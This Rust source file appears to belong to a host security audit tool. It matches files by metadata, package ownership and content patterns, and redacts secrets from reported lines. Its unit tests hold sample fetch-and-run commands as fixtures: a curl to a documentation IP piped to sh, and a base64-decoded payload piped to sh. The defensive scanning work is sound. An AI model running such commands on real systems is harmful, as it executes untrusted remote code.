//! What a file is like: conditions on its metadata, its package and its content, all of which must hold.

use std::cell::OnceCell;
use std::sync::OnceLock;

use md5::{Digest, Md5};
use regex::bytes::{Regex, RegexBuilder};
use serde::Deserialize;

use super::super::Subject;
use super::super::subject::shown;
use super::commands::Commands;
use crate::command_line;
use crate::fs::{FileType, Metadata};
use crate::tree::EntryId;

/// Bytes of a file that conditions on its content look at.
pub const READ: usize = 1 << 20;
/// Paths in one file that are followed.
const NAMES: usize = 64;

/// Conditions as written: each that is given must hold.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case", default)]
pub(super) struct WrittenSigns {
    kind: Option<Kind>,
    min_size: Option<u64>,
    max_size: Option<u64>,
    mode: Option<String>,
    of_root: Option<bool>,
    owned: Option<bool>,
    foreign: Option<bool>,
    hidden: Option<bool>,
    elf: Option<bool>,
    link: Option<String>,
    line: Option<String>,
    line_except: Option<String>,
    lacks: Option<String>,
    commands: Vec<String>,
    names: Option<WrittenNames>,
}

/// Paths that the file names.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct WrittenNames {
    regex: String,
    are: Vec<State>,
}

/// What kind of entry it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// A regular file; with at least one byte, unless `min-size` says otherwise.
    File,
    /// A directory.
    Directory,
    /// A symbolic link.
    Link,
    /// A socket or a pipe.
    Socket,
    /// Anything.
    Any,
}

/// What a path is that a file names.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum State {
    /// In a directory that is everybody's.
    Temporary,
    /// A part of it begins with a dot.
    Hidden,
    /// A file that everybody may change.
    Writable,
    /// A file that no package brought.
    Unowned,
}

/// Conditions on a file.
#[derive(Debug, Default)]
pub struct Signs {
    kind: Option<Kind>,
    min_size: Option<u64>,
    max_size: Option<u64>,
    /// One of these bits is set.
    mode: Option<u16>,
    of_root: Option<bool>,
    /// A package owns it.
    owned: Option<bool>,
    /// No package owns it, or it differs from what its package recorded.
    foreign: Option<bool>,
    hidden: Option<bool>,
    elf: Option<bool>,
    link: Option<Lines>,
    line: Option<Lines>,
    line_except: Option<Lines>,
    lacks: Option<Lines>,
    commands: Vec<String>,
    names: Option<(Lines, Vec<State>)>,
}

/// A regular expression over lines, compiled when it is first asked.
#[derive(Debug)]
pub(super) struct Lines {
    text: String,
    regex: OnceLock<Option<Regex>>,
}

impl Lines {
    pub(super) fn new(text: String) -> Result<Self, String> {
        // Parsing is cheap and tells every mistake; building it is not, and waits for the first file.
        regex_syntax::ParserBuilder::new()
            .utf8(false)
            .multi_line(true)
            .build()
            .parse(&text)
            .map_err(|error| format!("{text}: {error}"))?;
        Ok(Self { text, regex: OnceLock::new() })
    }

    pub(super) fn regex(&self) -> Option<&Regex> {
        let build = || RegexBuilder::new(&self.text).multi_line(true).size_limit(4 << 20).build().ok();
        self.regex.get_or_init(build).as_ref()
    }

    fn holds(&self, text: &[u8]) -> bool {
        self.regex().is_some_and(|regex| regex.is_match(text))
    }
}

/// What shows that conditions hold.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Shown {
    /// The line, from 1.
    pub line: Option<u64>,
    /// Facts without secrets.
    pub facts: Vec<(&'static str, String)>,
}

/// The file at hand.
pub(super) struct File<'f> {
    pub(super) subject: &'f Subject<'f>,
    pub(super) id: EntryId,
    pub(super) path: &'f [u8],
    pub(super) metadata: &'f Metadata,
    pub(super) target: Option<&'f [u8]>,
    /// Whether the package database at hand is about this file.
    pub(super) in_system: bool,
    head: OnceCell<Vec<u8>>,
    content: OnceCell<Option<Vec<u8>>>,
}

impl<'f> File<'f> {
    pub(super) fn new(
        subject: &'f Subject<'f>,
        id: EntryId,
        path: &'f [u8],
        metadata: &'f Metadata,
        target: Option<&'f [u8]>,
    ) -> Self {
        let placed = subject
            .tree
            .get(id)
            .is_some_and(|(mounted, _)| mounted.outer.is_none() && mounted.mount.is_some());
        let in_system = placed && subject.facts.packages.count() > 0;
        Self {
            subject,
            id,
            path,
            metadata,
            target,
            in_system,
            head: OnceCell::new(),
            content: OnceCell::new(),
        }
    }

    /// Its first [`READ`] bytes; what cannot be read is a gap of the audit already.
    fn content(&self) -> &[u8] {
        self.content.get_or_init(|| self.read(READ)).as_deref().unwrap_or_default()
    }

    /// Its first bytes: most files that are asked whether they are programs are none.
    fn is_elf(&self) -> bool {
        self.head.get_or_init(|| self.read(4).unwrap_or_default()).starts_with(b"\x7fELF")
    }

    fn read(&self, most: usize) -> Option<Vec<u8>> {
        if self.metadata.file_type != FileType::Regular {
            return None;
        }
        let size = usize::try_from(self.metadata.size).unwrap_or(most).min(most);
        let mut node = self.subject.tree.open(self.id).ok()?;
        let (mut content, mut filled) = (vec![0; size], 0);
        while let Some(rest) = content.get_mut(filled..).filter(|rest| !rest.is_empty()) {
            match node.read_at(filled as u64, rest).ok()? {
                0 => break,
                read => filled = filled.saturating_add(read),
            }
        }
        content.truncate(filled);
        Some(content)
    }

    /// Whether there is more of it than was read.
    pub(super) fn is_cut(&self) -> bool {
        self.metadata.size > READ as u64 && self.content.get().is_some_and(Option::is_some)
    }

    fn is_owned(&self) -> bool {
        let packages = &self.subject.facts.packages;
        packages.owner(self.path).is_some() || packages.owner_of_source(self.path).is_some()
    }

    /// Whether it is not what a package brought. Where no database tells, it may be.
    fn is_foreign(&self) -> bool {
        if !self.in_system || !self.is_owned() {
            return true;
        }
        let recorded = self.subject.facts.packages.md5(self.path);
        recorded.is_some_and(|recorded| {
            !self.is_cut_at_all() && <[u8; 16]>::from(Md5::digest(self.content())) != recorded
        })
    }

    fn is_cut_at_all(&self) -> bool {
        self.metadata.size > READ as u64
    }
}

impl Signs {
    pub(super) fn read(written: WrittenSigns) -> Result<Self, String> {
        let octal = |text: String| u16::from_str_radix(&text, 8).map_err(|error| format!("{text}: {error}"));
        let lines = |text: Option<String>| text.map(Lines::new).transpose();
        let names = written.names.map(|names| Ok::<_, String>((Lines::new(names.regex)?, names.are)));
        Ok(Self {
            kind: written.kind,
            min_size: written.min_size,
            max_size: written.max_size,
            mode: written.mode.map(octal).transpose()?,
            of_root: written.of_root,
            owned: written.owned,
            foreign: written.foreign,
            hidden: written.hidden,
            elf: written.elf,
            link: lines(written.link)?,
            line: lines(written.line)?,
            line_except: lines(written.line_except)?,
            lacks: lines(written.lacks)?,
            commands: written.commands,
            names: names.transpose()?,
        })
    }

    /// The ids of commands that it asks for.
    pub(super) fn commands(&self) -> &[String] {
        &self.commands
    }

    /// Whether an entry of this type and size may be meant: asked before anything else.
    pub(super) fn admits(&self, metadata: &Metadata) -> bool {
        let kind = self.kind.unwrap_or(Kind::File);
        let least = self.min_size.unwrap_or(u64::from(kind == Kind::File));
        let right = match kind {
            Kind::File => metadata.file_type == FileType::Regular,
            Kind::Directory => metadata.file_type == FileType::Directory,
            Kind::Link => metadata.file_type == FileType::Symlink,
            Kind::Socket => matches!(metadata.file_type, FileType::Socket | FileType::Fifo),
            Kind::Any => true,
        };
        right && metadata.size >= least && self.max_size.is_none_or(|most| metadata.size <= most)
    }

    /// What shows that all of it holds, or `None`.
    pub(super) fn judge(&self, file: &File<'_>, commands: &Commands) -> Option<Shown> {
        let metadata = file.metadata;
        let is =
            |wanted: Option<bool>, found: &dyn Fn() -> bool| wanted.is_none_or(|wanted| wanted == found());
        let holds = self.min_size.is_none_or(|least| metadata.size >= least)
            && self.max_size.is_none_or(|most| metadata.size <= most)
            && self.mode.is_none_or(|bits| metadata.mode & bits != 0)
            && is(self.of_root, &|| metadata.uid == 0)
            && is(self.hidden, &|| is_hidden(file.path))
            && self.link.as_ref().is_none_or(|link| file.target.is_some_and(|target| link.holds(target)))
            && self.owned.is_none_or(|wanted| file.in_system && file.is_owned() == wanted)
            && is(self.foreign, &|| file.is_foreign())
            && is(self.elf, &|| file.is_elf())
            && self.lacks.as_ref().is_none_or(|lines| !lines.holds(file.content()));
        if !holds {
            return None;
        }
        let mut shown = Shown::default();
        if self.mode.is_some() {
            shown.facts.push(("mode", format!("{:04o}", metadata.mode)));
        }
        if let Some(lines) = &self.line {
            let found = line_of(lines, self.line_except.as_ref(), file.content())?;
            shown.line = Some(found.0);
            shown.facts.push(("line", found.1));
        }
        if !self.commands.is_empty() {
            let found = commands.find(&self.commands, file.content())?;
            shown.line = Some(found.line);
            shown.facts.push(("does", found.why.to_owned()));
            shown.facts.push(("line", without_secrets(found.text)));
        }
        if let Some((lines, states)) = &self.names {
            let (line, path, state) = named(lines, states, file)?;
            shown.line = Some(line);
            shown.facts.push((state, path));
        }
        Some(shown)
    }
}

/// The first line that fits and is no exception: its number, and its text.
fn line_of(lines: &Lines, except: Option<&Lines>, content: &[u8]) -> Option<(u64, String)> {
    let regex = lines.regex()?;
    let (start, line) = regex
        .find_iter(content)
        .map(|found| line_around(content, found.start()))
        .find(|(_, line)| except.is_none_or(|except| !except.holds(line)))?;
    Some((number(content, start), without_secrets(line)))
}

/// The line that holds a byte, and where it begins.
pub(super) fn line_around(content: &[u8], at: usize) -> (usize, &[u8]) {
    let (before, after) = content.split_at_checked(at).unwrap_or((content, b""));
    let start = memchr::memrchr(b'\n', before).map_or(0, |newline| newline.saturating_add(1));
    let end = memchr::memchr(b'\n', after).map_or(content.len(), |len| at.saturating_add(len));
    (start, content.get(start..end).unwrap_or_default())
}

/// The number of the line that begins at `start`, from 1.
pub(super) fn number(content: &[u8], start: usize) -> u64 {
    let before = content.get(..start).unwrap_or_default();
    memchr::memchr_iter(b'\n', before).count() as u64 + 1
}

/// A line as a report may show it: what is a secret by its form is left out.
fn without_secrets(line: &[u8]) -> String {
    let mut text = line.to_vec();
    let mut ranges: Vec<_> = command_line::secrets(line).into_iter().map(|found| found.range).collect();
    // `auth sufficient pam_x.so` is PAM's, and no password of redis.
    ranges.retain(|range| !line.get(range.clone()).is_some_and(|value| value.ends_with(b".so")));
    ranges.extend(long_words(line));
    ranges.sort_by_key(|range| std::cmp::Reverse((range.start, range.end)));
    // From the end, so that places before stay where they are; what overlaps is one.
    let mut last = text.len();
    for range in ranges {
        let end = range.end.min(last);
        if range.start < end {
            text.splice(range.start..end, "***".bytes());
            last = range.start;
        }
    }
    shown(&text)
}

/// Long runs of letters and digits mixed: keys, hashes, packed programs.
fn long_words(line: &[u8]) -> Vec<std::ops::Range<usize>> {
    const LONG: usize = 16;
    let mut found = Vec::new();
    let mut start = 0;
    for at in 0..=line.len() {
        let in_word = line.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || b"+_=".contains(byte));
        if in_word {
            continue;
        }
        let word = line.get(start..at).unwrap_or_default();
        if word.len() >= LONG && word.iter().any(u8::is_ascii_digit) {
            found.push(start..at);
        }
        start = at.saturating_add(1);
    }
    found
}

/// The first path that the file names and that is one of `states`: line, path, state.
fn named(lines: &Lines, states: &[State], file: &File<'_>) -> Option<(u64, String, &'static str)> {
    let content = file.content();
    lines.regex()?.captures_iter(content).take(NAMES).find_map(|found| {
        let path = found.name("path")?;
        let state = states.iter().find_map(|state| state.of(path.as_bytes(), file))?;
        Some((number(content, line_around(content, path.start()).0), shown(path.as_bytes()), state))
    })
}

impl State {
    /// Its name in a report, where the path is so.
    fn of(self, path: &[u8], file: &File<'_>) -> Option<&'static str> {
        let found = || {
            let id = file.subject.tree.find(path)?;
            let (_, walked) = file.subject.tree.get(id)?;
            (walked.metadata.file_type == FileType::Regular).then_some((id, walked.metadata.mode))
        };
        match self {
            Self::Temporary => is_temporary(path).then_some("names in a temporary place"),
            Self::Hidden => is_hidden(path).then_some("names hidden"),
            Self::Writable => {
                found().filter(|(_, mode)| mode & 0o002 != 0).map(|_| "names what everybody may change")
            }
            Self::Unowned => {
                let (id, _) = found()?;
                let packages = &file.subject.facts.packages;
                let resolved = file.subject.tree.path(id);
                let owned = packages.owner(path).is_some() || packages.owner(&resolved).is_some();
                (file.in_system && !owned).then_some("names what no package brought")
            }
        }
    }
}

/// Whether everybody may put files there.
pub fn is_temporary(path: &[u8]) -> bool {
    [b"/tmp/".as_slice(), b"/var/tmp/", b"/dev/shm/", b"/run/shm/", b"/dev/mqueue/"]
        .iter()
        .any(|place| path.starts_with(place))
}

/// Whether a part of the path begins with a dot, but for the directories in homes that tools are known to make.
pub fn is_hidden(path: &[u8]) -> bool {
    const KNOWN: [&[u8]; 22] = [
        b".local",
        b".cargo",
        b".nvm",
        b".config",
        b".rbenv",
        b".pyenv",
        b".rustup",
        b".bun",
        b".deno",
        b".sdkman",
        b".npm-global",
        b".npm",
        b".asdf",
        b".volta",
        b".linuxbrew",
        b".dotnet",
        b".krew",
        b".fzf",
        b".oh-my-zsh",
        b".build-id",
        b".venv",
        b".gem",
    ];
    path.split(|&byte| byte == b'/')
        .any(|part| part.len() > 2 && part.starts_with(b".") && !KNOWN.contains(&part))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shown_line_has_no_secret_in_it() {
        let line = b"curl -H 'Authorization: Bearer kd83Hs71kd83Hs71' http://192.0.2.7/a | sh";
        assert!(!without_secrets(line).contains("kd83"), "{}", without_secrets(line));
        assert!(without_secrets(line).contains("192.0.2.7/a | sh"));
        assert_eq!(
            without_secrets(b"echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ1 | base64 -d | sh"),
            "echo *** | base64 -d | sh"
        );
    }

    #[test]
    fn lines_are_counted_from_one() {
        let text = b"a\nbc\nd";
        assert_eq!(line_around(text, 3), (2, b"bc".as_slice()));
        assert_eq!(number(text, 2), 2);
        assert_eq!(line_around(text, 5), (5, b"d".as_slice()));
    }

    #[test]
    fn tools_in_homes_are_not_hidden() {
        assert!(is_hidden(b"/usr/local/lib/.cache/sh"));
        assert!(!is_hidden(b"/home/a/.local/bin/x"));
        assert!(!is_hidden(b"/usr/lib/./x"));
    }
}
